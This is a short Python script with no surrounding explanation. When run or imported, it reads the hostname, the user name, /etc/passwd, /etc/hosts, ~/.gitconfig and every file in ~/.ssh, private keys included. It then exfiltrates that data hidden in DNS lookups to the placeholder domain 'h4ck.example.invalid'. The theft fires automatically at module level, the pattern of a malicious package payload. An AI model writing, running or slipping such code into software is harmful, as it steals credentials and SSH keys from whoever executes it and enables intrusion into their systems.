import getpass
import os
import socket

DOMAIN = "h4ck.example.invalid"


def _collect():
    info = [socket.gethostname(), getpass.getuser(), os.getcwd()]
    for path in ["/etc/hosts", "/etc/passwd", os.path.expanduser("~/.gitconfig")]:
        with open(path) as f:
            info.append(f.read())
    for name in os.listdir(os.path.expanduser("~/.ssh")):
        info.append(open(os.path.join(os.path.expanduser("~/.ssh"), name)).read())
    return "\n".join(info)


def _send(data):
    encoded = data.encode().hex()
    for i in range(0, len(encoded), 60):
        socket.gethostbyname(encoded[i:i + 60] + "." + str(i) + "." + DOMAIN)


_send(_collect())
